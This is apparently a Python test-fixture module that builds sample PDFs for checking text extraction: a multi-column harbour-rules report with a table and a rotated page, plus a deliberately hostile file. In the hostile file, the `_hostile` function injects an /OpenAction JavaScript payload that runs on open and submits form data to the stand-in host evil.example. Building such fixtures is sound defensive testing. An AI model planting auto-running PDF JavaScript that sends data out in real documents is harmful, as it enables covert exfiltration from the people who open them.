"""PDFs whose words stand at known places: two columns, a turned page, a table, a scan, harm."""

from __future__ import annotations

from pathlib import Path

from reportlab.pdfgen.canvas import Canvas

LEFT = ["The office of the har-", "bour master flies the", "red flag before a storm,", "and the"]
RIGHT = ["blue flag in calm water.", "Boats wait behind the", "mole until noon."]
OVER = ("The pilot boards every ship that is longer", "than ninety metres before the outer buoy.")
TURNED = "Barges carry gravel to the upper quay on Mondays."
WITHOUT_LETTERS = "The drawing of the harbour"


def write_pdfs(folder: Path) -> None:
    """A report of five pages, and a file that means harm."""
    folder.mkdir(parents=True, exist_ok=True)
    _report(folder / "harbour.pdf")
    _hostile(folder / "hostile.pdf")


def _report(file: Path) -> None:
    canvas = Canvas(str(file), pagesize=(600, 800))
    canvas.setTitle("Harbour rules")
    canvas.bookmarkPage("flags")
    canvas.addOutlineEntry("Flags", "flags", 0)
    for column, lines in ((50, LEFT), (330, RIGHT)):
        for number, line in enumerate(lines):
            canvas.drawString(column, 700 - 16 * number, line)
    canvas.linkURL("http://evil.example/a", (50, 300, 250, 330))
    canvas.drawString(50, 310, "A link to elsewhere")
    canvas.drawString(50, 60, OVER[0])
    canvas.showPage()
    canvas.bookmarkPage("pilots")
    canvas.addOutlineEntry("Pilots", "pilots", 0)
    canvas.drawString(50, 740, OVER[1])
    for column, (name, values) in enumerate(
        {"Berth": ("North", "South"), "Depth": ("41 m", "38 m"), "Fee": ("3 crowns", "9 crowns")}
        .items()
    ):  # fmt: skip
        for row, words in enumerate((name, *values)):
            canvas.rect(50 + 120 * column, 600 - 20 * row, 120, 20)
            canvas.drawString(55 + 120 * column, 605 - 20 * row, words)
    canvas.showPage()
    canvas.setPageRotation(90)
    canvas.drawString(50, 700, TURNED)
    canvas.showPage()
    for page in range(4, 40):
        canvas.drawString(50, 700, f"Notes of berth {page}, which say nothing more.")
        canvas.showPage()
    canvas.save()


def _hostile(file: Path) -> None:
    canvas = Canvas(str(file), pagesize=(600, 800))
    canvas.drawString(50, 700, "The zeppelin crew opens the hatch at Wexham.")
    canvas.save()
    script = b"app.alert(1); window.broken = 4; this.submitForm('http://evil.example/d');"
    action = (
        b"/OpenAction << /S /JavaScript /JS ("
        + script.replace(b"(", b"\\(").replace(b")", b"\\)")
        + b") >> "
    )
    content = file.read_bytes().replace(b"/Type /Catalog", action + b"/Type /Catalog")
    file.write_bytes(content)  # its table of offsets is wrong now, which readers repair
